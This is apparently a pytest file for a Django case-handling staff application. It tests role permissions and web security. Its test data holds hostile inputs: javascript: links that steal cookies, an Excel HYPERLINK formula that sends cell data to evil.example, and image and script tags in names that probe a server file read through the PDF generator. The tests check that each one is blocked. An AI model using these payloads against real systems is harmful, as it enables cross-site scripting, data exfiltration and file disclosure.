"""Exploratory test of who may see and do what (R-4.2–4.3) and of the web security of the staff pages: the bugs
found, each as a user would meet it."""

from __future__ import annotations

import io
import json
import re
import zipfile

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from otklik.cases import actions
from otklik.cases.models import Case, CaseEvent, Draft
from otklik.governor import service
from otklik.governor.models import Comment, GovernorSettings
from otklik.intake.imports import ensure_default_mappings, import_file
from otklik.intake.models import ImportMapping, Message
from otklik.notify.models import Notice
from otklik.notify.services import notify_people
from otklik.org.models import Body, Person
from tests.cases.helpers import classified, dispatch, message
from tests.conftest import PASSWORD, Personas, msk
from tests.governor.helpers import HEALTH_QUESTION, HEALTH_TOPIC, competence, governor_post, governor_source
from tests.reports.builders import build_october

pytestmark = pytest.mark.django_db
ANSWER = "Здравствуйте, Ирина! Ремонт запланирован на июнь."
CLARIFY = "Здравствуйте, Ирина! Уточните, пожалуйста, адрес дома."


def login(username: str) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(Person.objects.get(username=username))
    return client


def shown_messages(client: Client, url: str) -> list[str]:
    page = client.get(url).content.decode()
    listed = re.search(r'<ul class="messages"[^>]*>(.*?)</ul>', page)
    # each message as the person reads it (its text, without the markup that gives it a role for screen readers)
    items = re.findall(r'<li class="[^"]*">(.*?)</li>', listed.group(1)) if listed else []
    return [re.sub(r"<[^>]+>", "", item) for item in items]


def awaiting_author(p: Personas) -> Case:
    """A health case whose clarification request is published: the author's reply is awaited."""
    case = dispatch(p.curator, p.health, at=msk(2025, 4, 28, 9, 0))
    draft = actions.submit_draft(
        p.alice, case, Draft.Kind.CLARIFICATION, CLARIFY, now=msk(2025, 4, 28, 10, 0)
    )
    actions.approve_draft(p.curator, draft, "", now=msk(2025, 4, 28, 10, 10))
    actions.confirm_publication(
        p.alice, draft, url="https://vk.com/wall-1_1?reply=5", now=msk(2025, 4, 28, 10, 20)
    )
    case.refresh_from_db()
    assert case.status == Case.Status.AWAITING_AUTHOR
    return case


# ---------------------------------------------------------------------------------------------- the author's reply
def test_a_refused_author_reply_leaves_no_message_in_the_inbox(personas: Personas) -> None:
    """R-4.3: an observer only reads. Their «Добавить ответ автора» is refused in Russian and changes nothing:
    no message appears in the curator's inbox (it used to be stored before the refusal)."""
    p = personas
    case = awaiting_author(p)
    before = Message.objects.count()
    observer = login("observer")
    response = observer.post(
        reverse("cases:reply", args=[case.pk]), {"text": "Текст от наблюдателя", "version": case.version}
    )
    assert response.status_code == 400  # the case page again, the refusal on it
    page = response.content.decode()
    assert "выполняет исполнитель" in page or "Проект направляет" in page
    assert Message.objects.count() == before
    curator = login("curator")
    assert "Текст от наблюдателя" not in curator.get(reverse("cases:inbox")).content.decode()
    case.refresh_from_db()
    assert case.status == Case.Status.AWAITING_AUTHOR


def test_a_reply_typed_too_early_does_not_replace_the_real_one_later(personas: Personas) -> None:
    """The executor pastes the author's reply while the case is still being drafted: refused. When the real reply
    comes after the clarification, the case shows the real text, not the early one."""
    p = personas
    case = dispatch(p.curator, p.health, at=msk(2025, 4, 28, 9, 0))
    alice = login("alice")
    alice.post(reverse("cases:reply", args=[case.pk]), {"text": "Ранний текст не по делу"})
    assert not Message.objects.filter(text="Ранний текст не по делу").exists()

    draft = actions.submit_draft(
        p.alice, case, Draft.Kind.CLARIFICATION, CLARIFY, now=msk(2025, 4, 28, 10, 0)
    )
    actions.approve_draft(p.curator, draft, "", now=msk(2025, 4, 28, 10, 10))
    actions.confirm_publication(
        p.alice, draft, url="https://vk.com/wall-1_1?reply=5", now=msk(2025, 4, 28, 10, 20)
    )
    case.refresh_from_db()
    alice.post(
        reverse("cases:reply", args=[case.pk]), {"text": "Дом 5 по улице Ленина", "version": case.version}
    )
    case.refresh_from_db()
    assert case.status == Case.Status.DRAFTING
    page = alice.get(reverse("cases:detail", args=[case.pk])).content.decode()
    assert "Дом 5 по улице Ленина" in page and "Ранний текст" not in page


def test_a_reply_by_its_link_is_the_message_already_received(personas: Personas) -> None:
    """The author's reply already came in through the connector (it waits in the inbox); entered by its link it
    is that message, taken into the case, not a second copy left in the inbox for another case."""
    p = personas
    case = awaiting_author(p)
    arrived = Message.objects.create(
        network="vk", external_id="-1_1_7", url="https://vk.com/wall-1_1?reply=7", text="Дом 5, Ленина"
    )
    alice = login("alice")
    alice.post(
        reverse("cases:reply", args=[case.pk]),
        {"text": "Дом 5, Ленина", "url": "https://vk.com/wall-1_1?reply=7", "version": case.version},
    )
    assert Message.objects.filter(text="Дом 5, Ленина").count() == 1
    assert case.case_messages.filter(message=arrived, is_author_reply=True).exists()


def test_a_reply_with_a_broken_link_is_refused_in_russian(personas: Personas) -> None:
    p = personas
    case = awaiting_author(p)
    alice = login("alice")
    response = alice.post(
        reverse("cases:reply", args=[case.pk]),
        {"text": "Дом 5", "url": "https://[vk.com/wall-1_1", "version": case.version},
    )
    assert response.status_code == 400  # the case page again, the form open with what was typed
    page = response.content.decode()
    assert "Ссылка не распознана: скопируйте её из адресной строки." in page
    assert 'value="https://[vk.com/wall-1_1"' in page and 'data-field="#reply-url"' in page
    case.refresh_from_db()
    assert case.status == Case.Status.AWAITING_AUTHOR


# ---------------------------------------------------------------------------------------------- dispatch twice
def test_dispatch_clicked_twice_leads_to_the_case_not_to_not_found(personas: Personas) -> None:
    """R-8.1: the second click of «Направить» (the first already made the case) shows where the message went."""
    p = personas
    msg = message("В поликлинике Кировска нет записи к терапевту")
    curator = login("curator")
    form = {**classified(), "body_1": p.health.pk, "order_1": 1, "importance": "normal"}
    first = curator.post(reverse("cases:dispatch", args=[msg.pk]), form)
    case = Case.objects.get()
    second = curator.post(reverse("cases:dispatch", args=[msg.pk]), form)
    assert first.status_code == second.status_code == 302
    assert second.url == reverse("cases:detail", args=[case.pk])
    assert f"Сообщение уже направлено: обращение № {case.pk}." in shown_messages(curator, second.url)
    assert Case.objects.count() == 1
    # Still invisible to those who may not dispatch.
    assert login("alice").get(reverse("cases:dispatch", args=[msg.pk])).status_code == 404


# ---------------------------------------------------------------------------------------------- the Governor's post
@pytest.fixture
def governor_question(personas: Personas) -> tuple[Personas, int, Case, Comment]:
    competence(personas.health, *HEALTH_TOPIC)
    post = governor_post(governor_source(), msk(2024, 11, 1, 17, 30))
    service.open_watches(now=msk(2024, 11, 1, 17, 31))
    from tests.governor.helpers import comment

    question = comment(post, HEALTH_QUESTION, msk(2024, 11, 1, 17, 40))
    service.process_comments(now=msk(2024, 11, 1, 17, 45))
    found = Comment.objects.get(message=question)
    assert found.case is not None
    return personas, post.watch.pk, found.case, found


@pytest.mark.parametrize(
    ("path", "data"),
    [
        ("questions/{case}/handover/", {"body": "abc", "reason": "не наш вопрос"}),
        ("questions/{case}/handover/", {"body": "²", "reason": "не наш вопрос"}),
        ("comments/{comment}/take/", {"body": "abc"}),
        ("posts/{watch}/approval/", {"body": "abc", "require_approval": "1"}),
    ],
)
def test_governor_forms_with_a_garbled_body_are_not_found_not_a_server_error(
    governor_question: tuple[Personas, int, Case, Comment], path: str, data: dict[str, str]
) -> None:
    """R-7.1 forms posted with a body number that is not a number (a tampered form): 404, nothing changes."""
    _, watch_pk, case, comment = governor_question
    before = (case.version, GovernorSettings.objects.count())
    url = "/governor/" + path.format(case=case.pk, comment=comment.pk, watch=watch_pk)
    assert login("health_head").post(url, data).status_code == 404
    case.refresh_from_db()
    assert (case.version, GovernorSettings.objects.count()) == before


def test_governor_answer_from_a_garbled_page_is_refused_in_russian(
    governor_question: tuple[Personas, int, Case, Comment],
) -> None:
    """R-7.2: an answer whose page version is not a number is refused (the page is to be reloaded), never a 500."""
    _, watch_pk, case, _ = governor_question
    alice = login("alice")
    response = alice.post(
        f"/governor/questions/{case.pk}/answer/", {"text": "Терапевт с 1 декабря.", "version": "abc"}
    )
    assert response.status_code == 302 and response.url == f"/governor/posts/{watch_pk}/"
    assert "Страница устарела: обновите её и повторите ответ." in shown_messages(alice, response.url)
    assert not case.drafts.exists()


# ---------------------------------------------------------------------------------------------- links from the data
def test_an_imported_author_link_with_javascript_is_not_a_link(personas: Personas) -> None:
    """R-4: an imported file's «author_url» of «javascript:…» must not become a link a curator clicks."""
    ensure_default_mappings()
    rows = [
        {
            "Текст инцидента": "Яма на дороге у школы",
            "Урл поста": "https://vk.com/wall-1_99",
            "author_name": "Пётр Злой",
            "author_url": "javascript:alert(document.cookie)",
        }
    ]
    import_file(json.dumps(rows).encode(), "export.json", ImportMapping.objects.get())
    page = login("curator").get(reverse("intake:message_list")).content.decode()
    assert "Пётр Злой" in page and "Яма на дороге у школы" in page
    assert "javascript:" not in page
    assert 'href="https://vk.com/wall-1_99"' in page


def test_a_notice_with_two_links_shows_both_as_links(personas: Personas) -> None:
    """R-14: the notice of a significant message in a case keeps the message's link and the case's; both work
    (they were one broken link with a space inside)."""
    notify_people(
        [personas.observer],
        Notice.Kind.ALERT,
        "Общественно значимое: обращение № 7",
        "Текст",
        msk(2025, 4, 28, 9, 0),
        link="https://vk.com/wall-1_5 http://testserver/cases/7/ javascript:alert(1)",
    )
    page = login("observer").get(reverse("notify:notices")).content.decode()
    assert '<a href="https://vk.com/wall-1_5">Общественно значимое: обращение № 7</a>' in page
    assert '<a href="http://testserver/cases/7/">ссылка 2</a>' in page
    assert "javascript:" not in page


# ---------------------------------------------------------------------------------------------- report downloads
def test_a_name_starting_with_equals_stays_text_in_the_xlsx(personas: Personas) -> None:
    """R-12: a person or body named «=HYPERLINK(…)» is shown as text in Excel, never run as a formula."""
    p = personas
    build_october(p)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'
    Person.objects.filter(pk=p.alice.pk).update(last_name=evil)
    Body.objects.filter(pk=p.health.pk).update(short_name="=1+1")
    response = login("observer").get("/reports/violations/?from=2025-10-01&to=2025-10-31&format=xlsx")
    assert response.status_code == 200
    book = zipfile.ZipFile(io.BytesIO(response.content))
    sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
    assert all("<f>" not in book.read(n).decode() for n in sheets)
    wb = load_workbook(io.BytesIO(response.content))
    people = {row[1] for row in wb["По сотрудникам"].iter_rows(min_row=2, values_only=True)}
    bodies = {row[0] for row in wb["По органам"].iter_rows(min_row=2, values_only=True)}
    assert f"{evil} Тест" in people and "=1+1" in bodies


def test_a_name_with_markup_does_not_break_the_pdf(personas: Personas) -> None:
    """R-12/R-13: names with «<», «&» or an image tag are printed as written; the PDF is produced (it used to fail
    with a server error, and «<img src=…>» made the PDF library open a file of the server)."""
    p = personas
    build_october(p)
    Person.objects.filter(pk=p.alice.pk).update(last_name='<img src="/etc/hostname"/> Алексеева')
    Body.objects.filter(pk=p.roads.pk).update(short_name="Дороги & мосты <script>")
    observer = login("observer")
    for url in (
        "/reports/violations/?from=2025-10-01&to=2025-10-31&format=pdf",
        "/reports/monthly/?month=2025-10&format=pdf",
    ):
        response = observer.get(url)
        assert response.status_code == 200, url
        assert response.content.startswith(b"%PDF")


# ---------------------------------------------------------------------------------------------- directory, password
@pytest.mark.parametrize("body", ["²", "99999999999999999999999", "abc"])
def test_people_list_with_a_garbled_body_filter_is_not_a_server_error(personas: Personas, body: str) -> None:
    response = login("alice").get("/directory/people/", {"body": body})
    assert response.status_code == 200


def test_people_list_still_filters_by_body(personas: Personas) -> None:
    page = login("alice").get("/directory/people/", {"body": str(personas.roads.pk)}).content.decode()
    assert 'data-person="dave"' in page and 'data-person="alice"' not in page


def test_everybody_changes_their_own_password(personas: Personas) -> None:
    """A staff member replaces the password the administrator gave them; the old one stops working and other
    sessions of theirs end."""
    other_session = login("bob")
    bob = login("bob")
    assert bob.get("/password/").status_code == 200
    new = "Новый-пароль-для-боба-2025"
    wrong = bob.post("/password/", {"old_password": "wrong", "new_password1": new, "new_password2": new})
    assert wrong.status_code == 200 and "Ваш старый пароль введен неправильно" in wrong.content.decode()
    done = bob.post("/password/", {"old_password": PASSWORD, "new_password1": new, "new_password2": new})
    assert done.status_code == 302
    assert "Пароль изменён." in shown_messages(bob, done.url)
    assert bob.get(reverse("cases:list")).status_code == 200  # still signed in here
    assert other_session.get(reverse("cases:list")).status_code == 302  # signed out elsewhere
    assert Client().post("/login/", {"username": "bob", "password": new}).status_code == 302
    assert Client().post("/login/", {"username": "bob", "password": PASSWORD}).status_code == 200  # refused
    assert Client().get("/password/").status_code == 302  # anonymous: to the login page


def test_observer_refused_everywhere_changes_nothing(personas: Personas) -> None:
    """R-4.3: every action of the case page posted by an observer is refused in Russian; the case stays as it
    was (no event, no draft, no message)."""
    p = personas
    case = dispatch(p.curator, p.health, at=msk(2025, 4, 28, 9, 0))
    draft = actions.submit_draft(p.alice, case, "answer", ANSWER, now=msk(2025, 4, 28, 10, 0))
    a = case.assignments.get()
    case.refresh_from_db()
    state = (
        case.status,
        case.version,
        CaseEvent.objects.count(),
        Draft.objects.count(),
        Message.objects.count(),
    )
    observer = login("observer")
    v = case.version
    for url, data in [
        (reverse("cases:review", args=[case.pk, draft.pk]), {"decision": "approve", "version": v}),
        (
            reverse("cases:review", args=[case.pk, draft.pk]),
            {"decision": "return", "comment": "x", "version": v},
        ),
        (reverse("cases:reject", args=[case.pk, a.pk]), {"reason": "не наше", "version": v}),
        (reverse("cases:reassign", args=[case.pk, a.pk]), {"body": p.roads.pk, "version": v}),
        (reverse("cases:reply", args=[case.pk]), {"text": "ответ", "version": v}),
        (reverse("cases:close", args=[case.pk]), {"reason": "закрыть", "version": v}),
        (reverse("cases:draft", args=[case.pk]), {"text": ANSWER, "kind": "answer", "version": v}),
    ]:
        response = observer.post(url, data)
        # the draft editor is not there for people who cannot work (404, as its GET)
        assert response.status_code in ((404,) if url.endswith("/draft/") else (302, 400)), url
        case.refresh_from_db()
        now = (
            case.status,
            case.version,
            CaseEvent.objects.count(),
            Draft.objects.count(),
            Message.objects.count(),
        )
        assert now == state, url


def test_an_imported_javascript_link_is_never_stored_as_a_link() -> None:
    """The display refuses such links (`web_url`); intake does not keep them either, and says so on the message
    (the raw row keeps what came)."""
    mapping = ImportMapping.objects.create(
        name="Форум",
        network="forum",
        columns={"external_id": "id", "text": "body", "author_url": "who", "url": "link"},
    )
    rows = [
        {"id": "x-1", "body": "Когда починят лифт?", "who": "javascript:alert(document.cookie)", "link": ""},
        {"id": "x-2", "body": "И ещё вопрос", "who": "https://forum.example.org/u/7", "link": ""},
    ]
    import_file(json.dumps(rows).encode(), "forum.json", mapping)
    bad, good = Message.objects.get(external_id="x-1"), Message.objects.get(external_id="x-2")
    assert bad.author_url == "" and "ссылка на автора не веб-адрес и не сохранена" in bad.parse_error
    assert good.author_url == "https://forum.example.org/u/7" and good.parse_error == ""


def test_a_page_number_in_other_digits_is_the_first_page(client: Client, personas: Personas) -> None:
    client.force_login(personas.curator)
    for url in ("/cases/", "/cases/inbox/", "/intake/messages/"):
        assert client.get(url, {"page": "²"}).status_code == 200, url
